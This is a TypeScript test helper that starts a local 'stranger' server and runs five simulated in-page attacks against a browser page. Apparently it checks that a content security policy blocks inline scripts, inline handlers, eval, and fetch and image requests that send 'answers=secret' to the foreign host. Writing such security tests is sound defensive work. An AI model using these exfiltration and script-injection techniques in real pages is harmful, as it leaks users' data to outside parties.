import { createServer } from 'node:http'
import type { Page } from 'playwright-core'
import { onTestFinished } from 'vitest'

/** Someone else's server, which would like to hear from our page. */
export async function aStranger(): Promise<{
  readonly url: string
  readonly heard: readonly string[]
}> {
  const heard: string[] = []
  const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
  const server = createServer(({ url }, response) => {
    heard.push(url ?? '')
    response.writeHead(200, { 'Content-Type': 'image/svg+xml', 'Access-Control-Allow-Origin': '*' })
    response.end(picture)
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  const address = server.address()
  return { url: `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`, heard }
}

/** Does what foreign code in the page would; which of the five attacks had an effect. */
export function attack(page: Page, stranger: string): Promise<readonly string[]> {
  return page.evaluate(attackFromWithin, stranger)
}

/** Runs in the page, out of reach of the privileges that a test's own code has there. */
async function attackFromWithin(stranger: string): Promise<readonly string[]> {
  await new Promise((resolve) => setTimeout(resolve, 0))
  const tried = (work: () => unknown) => {
    try {
      work()
    } catch {
      // Stopped.
    }
  }
  const worked: string[] = []
  Reflect.set(window, 'worked', worked)
  tried(() => {
    const script = document.createElement('script')
    script.append('window.worked.push("inline script")')
    document.head.append(script)
  })
  tried(() => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.worked.push("inline handler")')
    document.body.append(button)
    button.click()
    button.remove()
  })
  tried(() => Reflect.apply(Reflect.get(window, 'eval'), window, ['window.worked.push("eval")']))
  await fetch(`${stranger}?answers=secret`).then(
    () => worked.push('foreign fetch'),
    () => undefined,
  )
  await new Promise((resolve) => {
    const image = new Image()
    image.addEventListener('load', () => resolve(worked.push('foreign image')))
    image.addEventListener('error', resolve)
    image.src = `${stranger}picture.svg?answers=secret`
  })
  return worked
}
